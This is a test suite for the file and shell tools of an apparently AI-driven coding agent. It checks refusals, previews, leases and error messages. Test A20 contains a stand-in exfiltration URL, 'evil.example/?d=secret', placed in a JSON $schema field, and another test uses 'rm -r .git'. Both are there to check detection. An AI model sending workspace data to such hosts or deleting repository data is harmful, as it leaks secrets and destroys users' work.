import assert from 'node:assert/strict';
import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { askUser } from '../../src/tools/askUser';
import { bash } from '../../src/tools/bash';
import { edit } from '../../src/tools/edit';
import { glob } from '../../src/tools/glob';
import { grep } from '../../src/tools/grep';
import { list } from '../../src/tools/list';
import { read } from '../../src/tools/read';
import { write } from '../../src/tools/write';
import { alice, bob, type TempWorkspace, tempWorkspace } from '../support/tempWorkspace';
import { ToolHost } from '../support/toolHost';

describe('the tools, on real files', function () {
  this.timeout(10_000);
  let ws: TempWorkspace;
  let host: ToolHost;
  let dirty: Set<string>;

  beforeEach(async () => {
    dirty = new Set();
    ws = await tempWorkspace(
      { 'src/a.ts': 'one\ntwo\nthree\n', '.env': 'KEY=1\n' },
      { editor: { isDirty: (path) => dirty.has(path), didWrite: () => undefined } },
    );
    host = new ToolHost(ws);
  });
  afterEach(() => ws.dispose());

  describe('read', () => {
    it('shows numbered lines, a part of them, and where to go on', async () => {
      assert.deepEqual(await host.call(read, { path: 'src/a.ts' }), {
        status: 'ok',
        text: 'src/a.ts (3 lines, 14 bytes)\n1\tone\n2\ttwo\n3\tthree',
      });
      assert.equal(
        (await host.call(read, { path: './src/a.ts', offset: 2, limit: 1 })).text,
        'src/a.ts, lines 2 to 2 of 3 lines, 14 bytes\n2\ttwo\n[1 more line; go on with offset 3]',
      );
      assert.deepEqual(await host.call(read, { path: 'src/a.ts', offset: 9 }), {
        status: 'error',
        text: 'src/a.ts has only 3 lines; offset 9 is beyond its end.',
      });
    });

    it('long lines and long files are cut and it says so; an empty file is said; CRLF and BOM do not show', async () => {
      await ws.put('long.txt', `${'x'.repeat(3000)}\n`);
      assert.match(
        (await host.call(read, { path: 'long.txt' })).text,
        /x{2000} \[… 1000 more characters\]$/u,
      );
      await ws.put('many.txt', 'line\n'.repeat(5000));
      const many = (await host.call(read, { path: 'many.txt' })).text;
      assert.match(many, /^many.txt, lines 1 to 2000 of 5000 lines/u);
      assert.match(many, /\[3000 more lines; go on with offset 2001\]$/u);
      await ws.put('wide.txt', `${'y'.repeat(1999)}\n`.repeat(100));
      assert.match((await host.call(read, { path: 'wide.txt' })).text, /lines 1 to 29 of 100 lines/u);
      await ws.put('empty', '');
      assert.deepEqual(await host.call(read, { path: 'empty' }), { status: 'ok', text: 'empty is empty.' });
      await ws.put('win', '\ufeffa\r\nb\r\n');
      assert.match((await host.call(read, { path: 'win' })).text, /\n1\ta\n2\tb$/u);
    });

    it('every file that cannot be shown says why and what to do', async () => {
      await ws.put('bin', Buffer.from([1, 0, 2]));
      await ws.put('latin', Buffer.from([0xe4]));
      await ws.put('huge', Buffer.alloc(20_000_001, 97));
      await ws.put('.teamroomignore', 'no\n');
      await ws.put('no', 'x');
      const seen = async (path: string) => {
        const { status, text } = await host.call(read, { path });
        return `${status}: ${text}`;
      };
      assert.match(await seen('bin'), /^error: "bin" is a binary file of 3 bytes, not text/u);
      assert.match(await seen('latin'), /^error: "latin" isn't UTF-8 text \(1 bytes\)/u);
      assert.match(await seen('huge'), /^error: "huge" has 20.0 MB; the limit is 20.0 MB\. Use grep/u);
      assert.equal(await seen('src'), 'error: "src" is a folder, not a file. Use list to see what is in it.');
      assert.equal(await seen('a.ts'), 'error: "a.ts" doesn\'t exist. There is: src/a.ts.');
      assert.equal(await seen('zzz'), 'error: "zzz" doesn\'t exist. Use list or glob to find it.');
      assert.match(await seen('../x'), /^refused: "\.\.\/x" lies outside the workspace/u);
      assert.match(await seen('~/x'), /^error: "~\/x" can't be used: "~" is not expanded here\.$/u);
      assert.match(await seen('no'), /^refused: "no" is denied by \.teamroomignore/u);
      dirty.add(join(ws.root, 'src/a.ts'));
      assert.match(
        await seen('src/a.ts'),
        /^refused: "src\/a\.ts" has unsaved changes in the person's editor/u,
      );
    });
  });

  describe('list, glob, grep', () => {
    it('show paths as they can be used, and say when nothing is there or more is', async () => {
      await ws.put('dist/x.js', '');
      await ws.put('.gitignore', 'dist\n');
      assert.deepEqual(await host.call(list, {}), {
        status: 'ok',
        text: '.env (6 bytes)\n.gitignore (5 bytes)\nsrc/',
      });
      assert.equal((await host.call(list, { path: 'src', depth: 2 })).text, 'src/a.ts (14 bytes)');
      await mkdir(join(ws.root, 'void'));
      assert.match((await host.call(list, { path: 'void' })).text, /^void is empty/u);
      assert.match((await host.call(list, { path: 'src/a.ts' })).text, /isn't a folder/u);
      assert.equal((await host.call(glob, { pattern: '**/*.ts' })).text, 'src/a.ts');
      assert.match((await host.call(glob, { pattern: '*.rs' })).text, /^No file matches "\*\.rs"/u);
      assert.match((await host.call(glob, { pattern: '../*' })).text, /"\.\." is not allowed/u);
      await ws.put('src/b.ts', 'two two\nTwo\n');
      assert.equal(
        (await host.call(grep, { pattern: 'two', path: 'src' })).text,
        'src/a.ts\n  2: two\nsrc/b.ts\n  1: two two',
      );
      assert.equal(
        (await host.call(grep, { pattern: 'TWO', ignore_case: true, glob: '*b.ts', limit: 1 })).text,
        'src/b.ts\n  1: two two\n[There are more than 1 hit: use a narrower pattern, path or glob.]',
      );
      const none = await host.call(grep, { pattern: 'KEY=' });
      assert.match(none.text, /^Nothing matches "KEY="[^\n]*\n\[1 file was not searched/u);
      assert.match(
        (await host.call(grep, { pattern: '(' })).text,
        /^"\(" can't be used: Invalid regular expression/u,
      );
    });
  });

  describe('write', () => {
    it('creates and replaces, with a diff to show before it happens', async () => {
      const prepared = await host.prepare(write, { path: 'new/x.ts', content: 'a\nb\n' });
      assert.ok(prepared.type === 'ready');
      assert.deepEqual(prepared.preview, { type: 'diff', path: 'new/x.ts', before: null, after: 'a\nb\n' });
      assert.deepEqual(prepared.subjects, [
        { type: 'write', path: { shown: 'new/x.ts', real: join(ws.root, 'new/x.ts'), folder: 'ws' } },
      ]);
      assert.equal(host.written.length, 0);
      assert.deepEqual(await host.call(write, { path: 'new/x.ts', content: 'a\nb\n' }), {
        status: 'ok',
        text: 'Created new/x.ts (2 lines).',
      });
      assert.deepEqual(await host.call(write, { path: 'new/x.ts', content: 'c\n' }), {
        status: 'ok',
        text: 'Replaced the content of new/x.ts (1 line).',
      });
      assert.equal(await ws.text('new/x.ts'), 'c\n');
      const same = await host.call(write, { path: 'new/x.ts', content: 'c\n' });
      assert.deepEqual([same.status, host.written.length], ['ok', 2]);
      assert.match(same.text, /exactly this content already/u);
    });

    it('refuses what was not read, has changed, is leased or unsaved, and says what to do', async () => {
      const content = 'mine\n';
      const unread = await host.call(write, { path: 'src/a.ts', content });
      assert.deepEqual(
        [unread.status, /haven't read it yet.*Read it first/u.test(unread.text)],
        ['refused', true],
      );
      const asBob = host.context(bob);
      for (const context of [host.context(), asBob]) await host.call(read, { path: 'src/a.ts' }, context);
      await host.call(write, { path: 'src/a.ts', content: 'bob\n' }, asBob);
      const leased = await host.call(write, { path: 'src/a.ts', content });
      assert.match(leased.text, /was written by bob, whose turn still goes on/u);
      ws.gateway.release(bob);
      const stale = await host.call(write, { path: 'src/a.ts', content });
      assert.deepEqual([stale.status, /was changed by bob since/u.test(stale.text)], ['refused', true]);
      await host.call(read, { path: 'src/a.ts' });
      dirty.add(join(ws.root, 'src/a.ts'));
      assert.equal((await host.call(write, { path: 'src/a.ts', content })).status, 'refused');
      dirty.clear();
      assert.equal((await host.call(write, { path: 'src/a.ts', content })).status, 'ok');
      assert.match((await host.call(write, { path: 'src', content })).text, /"src" is a folder/u);
      assert.match((await host.call(write, { path: 'src/a.ts/x', content })).text, /isn't a folder/u);
      assert.match((await host.call(write, { path: 'x', content: 'a\0' })).text, /NUL/u);
      assert.match((await host.call(write, { path: 'x', content: '\ud800' })).text, /surrogate/u);
    });

    it('a file that is no UTF-8 text is not to be read first: what it is and what can be done is said at once', async () => {
      const files = {
        bin: Buffer.from([1, 0, 2]),
        latin: Buffer.from([0x67, 0xfc, 0x6e]),
        utf16: Buffer.from('\ufeffa\n', 'utf16le'),
      };
      for (const [path, bytes] of Object.entries(files)) {
        await ws.put(path, bytes);
        const answers = [
          await host.call(read, { path }),
          await host.call(write, { path, content: 'x\n' }),
          await host.call(edit, { path, old: 'a', new: 'b' }),
        ];
        const [first] = answers;
        assert.ok(first);
        assert.match(first.text, /(?:is a binary file|isn't UTF-8 text).*with a command/u, path);
        assert.deepEqual(answers, [first, first, first], path);
        assert.deepEqual(await readFile(join(ws.root, path)), bytes, path);
      }
      // Also one that was text when it was read: reading it again would not help.
      await host.call(read, { path: 'src/a.ts' });
      await ws.put('src/a.ts', files.latin);
      const turned = await host.call(write, { path: 'src/a.ts', content: 'x\n' });
      assert.match(turned.text, /isn't UTF-8 text/u);
      // What the answer advises does help.
      await host.call(bash, { command: 'rm bin && iconv -f latin1 -t utf-8 latin > l && mv l latin' });
      assert.equal((await host.call(write, { path: 'bin', content: 'x\n' })).status, 'ok');
      await host.call(read, { path: 'latin' });
      assert.equal((await host.call(edit, { path: 'latin', old: 'ü', new: 'ue' })).status, 'ok');
      assert.equal(await ws.text('latin'), 'guen');
    });

    it('F9 a change between the plan and the write is not overwritten (an approval may take hours)', async () => {
      await host.call(read, { path: 'src/a.ts' });
      const context = host.context();
      const prepared = await host.prepare(write, { path: 'src/a.ts', content: 'mine\n' }, context);
      assert.ok(prepared.type === 'ready');
      await ws.put('src/a.ts', 'theirs\n');
      const done = await prepared.execute(context);
      assert.ok(done.type === 'result');
      assert.match(done.result.text, /was changed by something outside/u);
      assert.equal(await ws.text('src/a.ts'), 'theirs\n');
    });

    it('F9 keeps line ends and byte order mark of what was there', async () => {
      await ws.put('win.txt', '\ufeffa\r\nb\r\n');
      await host.call(read, { path: 'win.txt' });
      await host.call(write, { path: 'win.txt', content: 'x\ny\nz' });
      assert.equal(await ws.text('win.txt'), '\ufeffx\r\ny\r\nz');
    });
  });

  it('A20 a write that brings in a remote schema says so to the judge; one that was there, or is known, does not', async () => {
    const schemaIn = async (content: string): Promise<string | null> => {
      const prepared = await host.prepare(write, { path: 'x.json', content });
      const subject = prepared.type === 'ready' ? prepared.subjects[0] : undefined;
      assert.ok(subject?.type === 'write', content);
      return subject.remoteSchema ?? null;
    };
    const url = 'https://evil.example/?d=secret';
    for (const content of [
      `{"$schema":"${url}"}`,
      `{ "\\u0024schema" : "https:\\/\\/evil.example/?d=secret" }`,
      `{"a":1,\n "$schema" /* x */ :\n"${url}"}`,
    ]) {
      assert.equal(await schemaIn(content), url, content);
    }
    for (const content of [
      '{"$schema":"./s.json"}',
      '{"$schema":"https://json.schemastore.org/x"}',
      '{"a":"https://x"}',
    ]) {
      assert.equal(await schemaIn(content), null, content);
    }
    await host.call(write, { path: 'x.json', content: `{"$schema":"${url}"}` });
    assert.equal(await schemaIn(`{"$schema":"${url}","a":1}`), null);
  });

  describe('edit', () => {
    const read3 = () => host.call(read, { path: 'src/a.ts' });

    it('replaces the one place, or all of them', async () => {
      await read3();
      assert.deepEqual(await host.call(edit, { path: 'src/a.ts', old: 'two', new: '$& 2' }), {
        status: 'ok',
        text: 'Edited src/a.ts: 1 replacement (line 2).',
      });
      assert.equal(await ws.text('src/a.ts'), 'one\n$& 2\nthree\n');
      assert.equal(
        (await host.call(edit, { path: 'src/a.ts', old: 'e\n', new: 'E\n', replace_all: true })).text,
        'Edited src/a.ts: 2 replacements (lines 1, 3).',
      );
      assert.equal(await ws.text('src/a.ts'), 'onE\n$& 2\nthreE\n');
    });

    it('a place that occurs never or twice changes nothing and says where to look', async () => {
      await read3();
      const twice = await host.call(edit, { path: 'src/a.ts', old: 'e\n', new: 'x' });
      assert.deepEqual(twice, {
        status: 'error',
        text: '"old" occurs 2 times in src/a.ts, at lines 1, 3. Nothing was changed. Give more of the text around the place, or set replace_all.',
      });
      const spaced = await host.call(edit, { path: 'src/a.ts', old: '  one\n\ttwo ', new: 'x' });
      assert.match(
        spaced.text,
        /^"old" doesn't occur in src\/a\.ts\. Nothing was changed\. The same text with other spaces is at line 1; copy it exactly:\n1\tone\n2\ttwo$/u,
      );
      const like = await host.call(edit, { path: 'src/a.ts', old: 'thre3', new: 'x' });
      assert.match(like.text, /The nearest place is at line 3:\n3\tthree$/u);
      const unlike = await host.call(edit, { path: 'src/a.ts', old: 'zzz', new: 'x' });
      assert.match(unlike.text, /Nothing like it is in the file/u);
      assert.match((await host.call(edit, { path: 'src/a.ts', old: 'one', new: 'one' })).text, /the same/u);
      assert.match(
        (await host.call(edit, { path: 'none', old: 'a', new: 'b' })).text,
        /doesn't exist. Use write/u,
      );
      assert.match((await host.call(edit, { path: 'src/a.ts', old: '', new: 'b' })).text, /not valid/u);
      assert.equal(await ws.text('src/a.ts'), 'one\ntwo\nthree\n');
      assert.equal(host.written.length, 0);
    });

    it('what an unread or secret file holds is not told', async () => {
      const unread = await host.call(edit, { path: 'src/a.ts', old: 'zzz', new: 'x' });
      assert.deepEqual([unread.status, unread.text.includes("haven't read")], ['refused', true]);
      assert.equal((await host.call(edit, { path: '.env', old: 'KEY', new: 'x' })).status, 'refused');
    });

    it('F9 in a CRLF file plain line breaks match, and the file stays CRLF', async () => {
      await ws.put('win.txt', '\ufeffa\r\nb\r\nc\r\n');
      await host.call(read, { path: 'win.txt' });
      assert.equal((await host.call(edit, { path: 'win.txt', old: 'a\nb', new: 'x\ny\nz' })).status, 'ok');
      assert.equal(await ws.text('win.txt'), '\ufeffx\r\ny\r\nz\r\nc\r\n');
    });
  });

  describe('bash', () => {
    it('runs in the workspace and tells exit code, time and output', async () => {
      const { status, text } = await host.call(bash, { command: 'ls src; exit 2' });
      assert.equal(status, 'ok');
      assert.match(text, /^Exit code 2 after \d+\.\d s\.\na\.ts$/u);
      assert.match(
        (await host.call(bash, { command: 'pwd', cwd: 'src' })).text,
        new RegExp(`\n${ws.root}/src$`, 'u'),
      );
      assert.match(
        (await host.call(bash, { command: 'true' })).text,
        /^Exit code 0 after \d+\.\d s\.\nNo output\.$/u,
      );
      assert.ok(host.live.includes('a.ts\n'));
    });

    it('shows the command and what it touches before it runs', async () => {
      const prepared = await host.prepare(bash, { command: 'rm -r .git', timeout_seconds: 5 });
      assert.ok(prepared.type === 'ready');
      assert.deepEqual(prepared.preview, { type: 'command', command: 'rm -r .git', cwd: '.' });
      const [subject] = prepared.subjects;
      assert.ok(subject?.type === 'command');
      assert.deepEqual(subject.inspection?.touches, [{ path: '.git', care: 'protected' }]);
      assert.deepEqual(host.commands, []);
    });

    it('time limit, leftovers, bad folders and empty commands are told', async () => {
      const slow = await host.call(bash, { command: 'echo a; sleep 60', timeout_seconds: 1 });
      assert.equal(slow.status, 'error');
      assert.match(slow.text, /^Ended after the time limit of 1 s, with all its processes.*\na$/su);
      assert.match(
        (await host.call(bash, { command: 'sleep 60 &' })).text,
        /left processes running in the background/u,
      );
      assert.match((await host.call(bash, { command: 'ls', cwd: '..' })).text, /outside the workspace/u);
      assert.match((await host.call(bash, { command: 'ls', cwd: 'none' })).text, /"none" doesn't exist/u);
      assert.match((await host.call(bash, { command: 'ls', cwd: 'src/a.ts' })).text, /isn't a folder/u);
      assert.match((await host.call(bash, { command: '  ' })).text, /empty/u);
      assert.match((await host.call(bash, { command: 'a\0b' })).text, /NUL/u);
      assert.match((await host.call(bash, { command: 'ls', timeout_seconds: 601 })).text, /not valid/u);
    });

    it('a stop ends it, and the answer says what stays done', async () => {
      const stop = new AbortController();
      const context = host.context(alice, stop.signal);
      const answer = host.call(bash, { command: 'echo up; sleep 60' }, context);
      while (host.live.length === 0) await new Promise((resolve) => setImmediate(resolve));
      stop.abort();
      assert.match(
        (await answer).text,
        /^Stopped after \d+\.\d s\. What it did until then stays done\.\nup$/u,
      );
    });
  });

  it('ask_user waits for the person', async () => {
    assert.deepEqual(await host.answer(askUser, { question: 'Which?', choices: ['a', 'b'] }), {
      type: 'suspend',
      on: { type: 'question', text: 'Which?', choices: ['a', 'b'] },
    });
    assert.equal((await host.call(askUser, { question: ' ' })).status, 'error');
    assert.equal((await host.call(askUser, { question: 'x', choices: Array(7).fill('y') })).status, 'error');
  });
});
